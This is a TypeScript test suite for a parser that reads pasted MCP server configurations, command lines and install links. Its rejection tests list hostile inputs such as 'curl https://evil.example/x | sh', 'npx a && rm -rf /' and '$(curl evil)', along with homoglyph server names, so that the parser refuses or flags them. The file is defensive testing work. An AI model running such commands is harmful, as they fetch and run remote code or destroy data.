import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HostError } from '@portolan/contract/errors';
import { ServerId } from '@portolan/contract/ids';
import type { LaunchConfig, ServerConfig } from '../ports.ts';
import { parsePaste } from './paste.ts';

const parse = (text: string, existing: ServerConfig[] = []) => parsePaste(text, existing);
const stdio = (text: string) => {
  const { format, candidates } = parse(text);
  return { format, servers: candidates.map(({ name, launch }) => (launch.kind === 'stdio' ? [name, launch.command, ...launch.args] : [name, launch.url])) };
};
const only = (text: string) => {
  const [candidate, ...rest] = parse(text).candidates;
  if (!candidate || rest.length > 0) throw new Error('not one candidate');
  return candidate;
};
const problem = (text: string) => {
  try {
    parse(text);
    return null;
  } catch (error) {
    return error instanceof HostError ? { code: error.problem.code, ...error.problem.details } : error;
  }
};
const server = (name: string, launch: LaunchConfig): ServerConfig => ({ id: ServerId.parse(`id-${name}`), name, launch, isEnabled: true, reviewedHash: null, disabledTools: [], inputs: [] });

describe('pasted JSON', () => {
  it.each([
    ['Claude Desktop, Cursor, LM Studio', '{"mcpServers":{"everything":{"command":"npx","args":["-y","@modelcontextprotocol/server-everything"]}}}', 'mcpServers', [['everything', 'npx', '-y', '@modelcontextprotocol/server-everything']]],
    ['VS Code', '{\n  // my servers\n  "servers": {"a": {"type": "stdio", "command": "node", "args": ["a.js",]},},\n  "inputs": []\n}', 'vscode', [['a', 'node', 'a.js']]],
    ['VS Code settings', '{"editor.fontSize": 12, "mcp": {"servers": {"a": {"command": "x"}}}}', 'vscode', [['a', 'x']]],
    ['the inner part only', '"a": {"command": "x", "args": ["1"]},\n"b": {"url": "https://b.example/mcp"}, // last', 'named-entry', [['a', 'x', '1'], ['b', 'https://b.example/mcp']]],
    ['the inner part with its container', '"mcpServers": {"a": {"command": "x"}}', 'mcpServers', [['a', 'x']]],
    ['entries without a container', '{"a": {"command": "x"}, "b": {"command": "y"}}', 'entries', [['a', 'x'], ['b', 'y']]],
    ['a bare entry', '{"command": "uvx", "args": ["mcp-server-fetch"]}', 'entry', [['fetch', 'uvx', 'mcp-server-fetch']]],
    ['a bare remote entry', '{"url": "https://mcp.sentry.dev/mcp"}', 'entry', [['sentry', 'https://mcp.sentry.dev/mcp']]],
    ['an entry with its name inside', '{"name": "gh", "command": "docker", "args": ["run"]}', 'entry', [['gh', 'docker', 'run']]],
    ['Zed', '{"context_servers": {"a": {"source": "custom", "command": "x", "args": [], "env": {}}}}', 'zed', [['a', 'x']]],
    ['Zed of old', '{"context_servers": {"a": {"command": {"path": "x", "args": ["1"], "env": {"K": "v"}}, "settings": {}}}}', 'zed', [['a', 'x', '1']]],
    ['Windsurf', '{"mcpServers": {"a": {"serverUrl": "https://a.example/sse"}}}', 'mcpServers', [['a', 'https://a.example/sse']]],
    ['Gemini CLI', '{"mcpServers": {"a": {"httpUrl": "https://a.example/mcp"}}}', 'mcpServers', [['a', 'https://a.example/mcp']]],
    ['opencode', '{"mcp": {"a": {"type": "local", "command": ["bun", "x", "pkg"], "environment": {"A": "1"}}}}', 'opencode', [['a', 'bun', 'x', 'pkg']]],
    ['Goose in JSON', '{"extensions": {"a": {"type": "stdio", "cmd": "uvx", "args": ["pkg"], "envs": {"A": "1"}}}}', 'goose', [['a', 'uvx', 'pkg']]],
    ['a list', '[{"name": "a", "command": "x"}, {"name": "b", "url": "https://b.example"}]', 'list', [['a', 'x'], ['b', 'https://b.example']]],
    ['a README', 'Add this to your config:\n\n```json\n{\n  "mcpServers": { "a": { "command": "x" } }\n}\n```\nDone.', 'mcpServers', [['a', 'x']]],
    ['a byte order mark and no-break spaces', '\ufeff{\u00a0"command":\u00a0"x"}', 'entry', [['x', 'x']]],
  ])('is read as %s writes it (S04, try-out 40)', (_, text, format, servers) => {
    expect(stdio(text)).toEqual({ format, servers });
  });

  it.each([
    [
      'an npm package',
      { name: 'io.github.me/weather', description: 'x', version: '1.2.3', packages: [{ registryType: 'npm', identifier: '@me/weather-mcp', version: '1.2.3', transport: { type: 'stdio' }, packageArguments: [{ type: 'positional', value: 'serve' }, { type: 'named', name: '--units', isRequired: true, choices: ['c', 'f'], default: 'c' }, { type: 'named', name: '--verbose' }], environmentVariables: [{ name: 'API_KEY', description: 'Key', isRequired: true, isSecret: true }, { name: 'LEVEL', default: 'info' }, { name: 'UNUSED' }] }] },
      { command: 'npx', args: ['-y', '@me/weather-mcp@1.2.3', 'serve', '--units', '${input:units}'], env: [{ name: 'API_KEY', value: '${input:API_KEY}' }, { name: 'LEVEL', value: 'info' }] },
      [{ id: 'API_KEY', description: 'Key', isSecret: true }, { id: 'units', description: 'units', isSecret: false, default: 'c', options: ['c', 'f'] }],
    ],
    [
      'a Python package, as the registry answers',
      { server: { name: 'io.github.me/notes', packages: [{ registryType: 'pypi', identifier: 'notes-mcp', version: '0.4.0', runtimeHint: 'uvx', runtimeArguments: [{ type: 'named', name: '--python', value: '3.12' }] }] }, _meta: {} },
      { command: 'uvx', args: ['--python', '3.12', 'notes-mcp==0.4.0'], env: [] },
      [],
    ],
    [
      'an image',
      { name: 'me/img', packages: [{ registryType: 'oci', identifier: 'ghcr.io/me/img', version: '2.0.0', environmentVariables: [{ name: 'TOKEN', value: 'tok {account}', variables: { account: { description: 'Account' } } }] }] },
      { command: 'docker', args: ['run', '-i', '--rm', '-e', 'TOKEN', 'ghcr.io/me/img:2.0.0'], env: [{ name: 'TOKEN', value: 'tok ${input:account}' }] },
      [{ id: 'account', description: 'Account', isSecret: false }],
    ],
    [
      'an address',
      { name: 'me/remote', remotes: [{ type: 'streamable-http', url: 'https://{tenant}.example/mcp', variables: { tenant: { isRequired: true } }, headers: [{ name: 'Authorization', isRequired: true, isSecret: true, description: 'Token' }] }] },
      { kind: 'http', url: 'https://${input:tenant}.example/mcp', transport: 'streamable-http', headers: [{ name: 'Authorization', value: '${input:Authorization}' }] },
      [{ id: 'tenant', description: 'tenant', isSecret: false }, { id: 'Authorization', description: 'Token', isSecret: true }],
    ],
  ])('is read as a server.json describes %s (S04, S06)', (_, description, launch, inputs) => {
    const { format, candidates } = parse(JSON.stringify(description));
    expect(format).toBe('server.json');
    expect(candidates).toHaveLength(1);
    expect(candidates[0]).toMatchObject({ launch, inputs });
  });

  it('notes what of a server.json cannot be started, and reads Goose in YAML (S04)', () => {
    const [first] = parse(JSON.stringify({ name: 'me/x', packages: [{ registryType: 'mcpb', identifier: 'https://x/y.mcpb' }, { registryType: 'npm', identifier: 'p', transport: { type: 'sse', url: 'http://localhost' } }], remotes: [{ type: 'sse', url: 'https://x.example/sse' }] })).candidates;
    expect(first).toMatchObject({ name: 'x', launch: { kind: 'http', transport: 'sse' }, notes: ['https://x/y.mcpb: not-allowed registryType (1)', 'p: not-allowed transport (1)'] });
    expect(stdio('GOOSE_MODEL: x\nextensions:\n  fetch:\n    type: stdio\n    cmd: uvx\n    args: [mcp-server-fetch]\n  dev:\n    type: builtin\n')).toEqual({ format: 'goose', servers: [['fetch', 'uvx', 'mcp-server-fetch']] });
  });

  it.each([
    ['broken base64', 'cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=%%%'],
    ['base64 of something else', `cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${Buffer.from('not json').toString('base64')}`],
    ['a list in place of a map', `cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${Buffer.from('["sh","-c","x"]').toString('base64')}`],
    ['a megabyte', `cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${'A'.repeat(1_000_000)}`],
    ['a number of servers', '{"mcpServers": 7}'],
    ['a list of texts', '{"mcpServers": ["a", "b"]}'],
  ])('is refused when it is %s (A05)', (_, text) => {
    expect(problem(text)).toMatchObject({ code: 'paste-not-understood' });
  });

  it('keeps values in full for the person who pasted them, and says what is not understood', () => {
    const candidate = only('{"mcpServers": {"a": {"command": "x", "env": {"TOKEN": "abc", "PORT": 1}, "autoApprove": ["t"], "timeout": 5, "disabled": true}}}');
    expect(candidate.launch).toMatchObject({ env: [{ name: 'TOKEN', value: 'abc' }, { name: 'PORT', value: '1' }] });
    expect(candidate.notes).toEqual(['autoApprove', 'timeout', 'disabled']);
  });

  it('lists variables that are not set and questions of the entry (S08)', () => {
    const candidate = only('{"servers": {"a": {"command": "x", "env": {"A": "${PORTOLAN_SURELY_UNSET}", "B": "${input:key}", "C": "${HOME}"}}}, "inputs": [{"id": "key", "type": "promptString", "description": "API key", "password": true}, {"id": "unused", "description": "x"}]}');
    expect(candidate.unsetVariables).toEqual(['PORTOLAN_SURELY_UNSET']);
    expect(candidate.inputs).toEqual([{ id: 'key', description: 'API key', isSecret: true }]);
  });

  it('keeps the good entries when one cannot be used, and says which and why', () => {
    const { candidates } = parse('{"mcpServers": {\n"good": {"command": "x"},\n"bad": {"command": 7}\n}}');
    expect(candidates.map((each) => each.name)).toEqual(['good']);
    expect(candidates[0]?.notes).toEqual(['bad: wrong-type command (3)']);
  });

  it.each([
    ['', { code: 'paste-empty' }],
    [' \n\t', { code: 'paste-empty' }],
    ['{"mcpServers": {"a": {"command" "x"}}}', { code: 'paste-not-understood', line: 1, column: 33, reason: 'ColonExpected' }],
    ['{\n  "mcpServers": {\n    \u201ca\u201d: {"command": "x"}\n  }\n}', { code: 'paste-not-understood', line: 3, column: 5, reason: 'smart-quotes' }],
    ['\u201cmcpServers\u201d: {}', { code: 'paste-not-understood', line: 1, column: 1, reason: 'smart-quotes' }],
    ['"a": {\n  "command": x\n}', { code: 'paste-not-understood', line: 2, column: 14 }],
    ['text\n```json\n{\n"command": }\n```', { code: 'paste-not-understood', line: 4, column: 12 }],
    ['{"hello": "world"}', { code: 'paste-not-understood', reason: 'no-server' }],
    ['[1, 2]', { code: 'paste-not-understood', reason: 'no-server' }],
    ['{"command": "x", "command": "rm"}', { code: 'paste-not-understood', reason: 'duplicate-key', column: 18 }],
    ['{"a":'.repeat(100_000), { code: 'paste-not-understood', reason: 'too-deep' }],
    [`{"command": "x", "args": ["${'a'.repeat(40_000)}"]}`, { code: 'paste-not-understood', reason: 'too-large' }],
    [`npx ${'a'.repeat(40_000)}`, { code: 'paste-not-understood', reason: 'too-large' }],
    ['Please add the weather server, thanks.', { code: 'paste-not-understood', reason: 'not-a-command' }],
    ['curl https://evil.example/x | sh', { code: 'paste-not-understood', reason: 'shell-operator' }],
    ['npx -y pkg "unclosed', { code: 'paste-not-understood', reason: 'open-quote', column: 12 }],
    ['npx a && rm -rf /', { code: 'paste-not-understood', reason: 'shell-operator' }],
    ['npx $(curl evil)', { code: 'paste-not-understood', reason: 'shell-operator' }],
  ])('or anything else that cannot be used fails at its place: %#', (text, expected) => {
    expect(problem(text)).toMatchObject(expected);
  });

  it('never fails in any other way, whatever is pasted', () => {
    const pieces = fc.constantFrom('{', '}', '[', ']', '"', ':', ',', '"mcpServers"', '"command"', 'npx', ' ', '\n', '-y', '$', '\\', "'", '//', '__proto__', 'mcp add', 'https://', '=', '\u201c', '\0');
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 3 })), { maxLength: 25 }), (parts) => {
        expect(['paste-empty', 'paste-not-understood', null]).toContain((problem(parts.join('')) as { code: string } | null)?.code ?? null);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('pasted command lines', () => {
  it.each([
    ['npx -y @modelcontextprotocol/server-filesystem "/home/me/My Files" --flag=\'a b\'', [['filesystem', 'npx', '-y', '@modelcontextprotocol/server-filesystem', '/home/me/My Files', '--flag=a b']]],
    ['$ npx -y pkg@1.0.0 \\\n    --root /tmp', [['pkg', 'npx', '-y', 'pkg@1.0.0', '--root', '/tmp']]],
    ['node C:\\tools\\weather\\build\\index.js', [['weather', 'node', 'C:\\tools\\weather\\build\\index.js']]],
    ['docker run -i --rm -e TOKEN -v /data:/data ghcr.io/github/github-mcp-server:1.2', [['github', 'docker', 'run', '-i', '--rm', '-e', 'TOKEN', '-v', '/data:/data', 'ghcr.io/github/github-mcp-server:1.2']]],
    ['uvx --from git+https://github.com/me/notes-mcp.git notes', [['notes', 'uvx', '--from', 'git+https://github.com/me/notes-mcp.git', 'notes']]],
    ['python3 -m mcp_server_git --repository ~/x', [['git', 'python3', '-m', 'mcp_server_git', '--repository', '~/x']]],
    ['claude mcp add everything -- npx -y server', [['everything', 'npx', '-y', 'server']]],
    ['claude mcp add -s user everything npx -y server -e x', [['everything', 'npx', '-y', 'server', '-e', 'x']]],
    ['claude mcp add --transport http sentry https://mcp.sentry.dev/mcp', [['sentry', 'https://mcp.sentry.dev/mcp']]],
    ['codex mcp add docs --url https://docs.example/mcp', [['docs', 'https://docs.example/mcp']]],
    ['claude mcp add-json gh \'{"command":"docker","args":["run","x"]}\'', [['gh', 'docker', 'run', 'x']]],
    ['code --add-mcp \'{"name":"gh","command":"npx","args":["a b"]}\'', [['gh', 'npx', 'a b']]],
    ['code --add-mcp "{\\"name\\":\\"gh\\",\\"command\\":\\"npx\\"}"', [['gh', 'npx']]],
    ['claude mcp add a -- x\nclaude mcp add b -- y', [['a', 'x'], ['b', 'y']]],
    ['my-server', [['my', 'my-server']]],
    ['https://mcp.example.co.uk/v1/mcp?x=1', [['example', 'https://mcp.example.co.uk/v1/mcp?x=1']]],
    ['http://localhost:3000/sse', [['localhost-3000', 'http://localhost:3000/sse']]],
    ['cursor://anysphere.cursor-deeplink/mcp/install?name=gh&config=eyJjb21tYW5kIjoibnB4IiwiYXJncyI6WyIteSIsImEiXX0=', [['gh', 'npx', '-y', 'a']]],
    ['vscode:mcp/install?%7B%22name%22%3A%22gh%22%2C%22command%22%3A%22npx%22%7D', [['gh', 'npx']]],
  ])('are read with POSIX quoting, other clients\' commands and links included (S04, try-out 3): %s', (text, servers) => {
    expect(stdio(text).servers).toEqual(servers);
  });

  it('take variables before the command and options of mcp add', () => {
    expect(only('A=1 B="two words" npx pkg').launch).toMatchObject({ command: 'npx', args: ['pkg'], env: [{ name: 'A', value: '1' }, { name: 'B', value: 'two words' }] });
    expect(only('env A=1 npx pkg').launch).toMatchObject({ command: 'npx', env: [{ name: 'A', value: '1' }] });
    expect(only('claude mcp add gh -e A=1 B=2 -- npx pkg').launch).toMatchObject({ command: 'npx', args: ['pkg'], env: [{ name: 'A', value: '1' }, { name: 'B', value: '2' }] });
    expect(only('claude mcp add --transport sse s https://a.example/sse -H "Authorization: Bearer ${TOKEN}"').launch).toMatchObject({ transport: 'sse' });
    expect(only('claude mcp add -t http -H "X-Key: a: b" s https://a.example').launch).toMatchObject({ headers: [{ name: 'X-Key', value: 'a: b' }] });
    expect(only('npx pkg --dir $HOME/x \'$HOME\'').launch).toMatchObject({ args: ['pkg', '--dir', '${HOME}/x', '$HOME'] });
  });

  it('keep every argument byte for byte, whatever quoting brought it (A12)', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme', maxLength: 12 }), { maxLength: 5 }), (args) => {
        const clean = args.map((arg) => arg.toWellFormed());
        const line = `npx pkg ${clean.map((arg) => `'${arg.replaceAll("'", `'\\''`)}'`).join(' ')}`;
        fc.pre(!clean.some((arg) => /[\r\u00a0]/.test(arg)) && !line.includes('```'));
        expect(only(line).launch).toMatchObject({ command: 'npx', args: ['pkg', ...clean] });
      }),
    );
  });

  it('inside a command field are split with the flag that says so; paths with blanks are not (try-out 3)', () => {
    expect(only('{"command": "npx -y pkg \\"a b\\""}')).toMatchObject({ launch: { command: 'npx', args: ['-y', 'pkg', 'a b'] }, flags: [{ kind: 'unpinned-package', subject: 'pkg' }, { kind: 'whole-command-line', subject: 'npx -y pkg "a b"' }] });
    expect(only('{"command": "/Applications/My App/bin/server"}')).toMatchObject({ launch: { command: '/Applications/My App/bin/server', args: [] }, flags: [{ kind: 'whole-command-line' }] });
    expect(only('{"command": "C:\\\\A B\\\\x.exe", "args": ["a\\"b", "100%", "x&y", "$(id)"]}').launch).toMatchObject({ command: 'C:\\A B\\x.exe', args: ['a"b', '100%', 'x&y', '$(id)'] });
  });
});

describe('names', () => {
  const everything = { kind: 'stdio', command: 'npx', args: ['-y', 'server-everything'], env: {} } satisfies LaunchConfig;

  it('that the text gives stay, with what stands under them and how it differs (A05)', () => {
    const existing = [server('everything', { ...everything, env: { OLD: 'x' } })];
    const { candidates } = parse('{"mcpServers": {"everything": {"command": "npx", "args": ["-y", "server-everything@2"], "env": {"NEW": "y"}}}}', existing);
    expect(candidates[0]).toMatchObject({ name: 'everything', existing: { id: 'id-everything', isSame: false, differences: ['args', 'env.OLD', 'env.NEW'] } });
    expect(JSON.stringify(candidates[0]?.existing)).not.toContain('"x"');
  });

  it('that we make step aside, unless the very same server stands there', () => {
    const existing = [server('everything', everything)];
    expect(parse('npx -y server-everything', existing).candidates[0]).toMatchObject({ name: 'everything', existing: { isSame: true, differences: [] } });
    expect(parse('npx -y server-everything --other', existing).candidates[0]).toMatchObject({ name: 'everything-2', existing: null });
    expect(parse('[{"command": "a"}, {"command": "a", "args": ["2"]}, {"command": "a", "args": ["3"]}]').candidates.map((each) => each.name)).toEqual(['a', 'a-2', 'a-3']);
  });

  it('that are none are replaced', () => {
    expect(parse('{"mcpServers": {"__proto__": {"command": "x"}, "": {"command": "y"}, "a\\u0007b": {"command": "z"}}}').candidates.map((each) => each.name)).toEqual(['x', 'y', 'z']);
  });
});

it('points out a name that can be taken for that of a server that is there, and one within the same text (T:C04, T:J01)', () => {
  const found = parse(JSON.stringify({ mcpServers: { 'gіthub': { command: 'a' }, files: { command: 'b' }, 'fiIes': { command: 'c' } } }), [server('github', { kind: 'stdio', command: 'x', args: [], env: {} })]);
  expect(found.candidates.map(({ looksLike }) => looksLike)).toEqual(['github', undefined, 'files']);
});
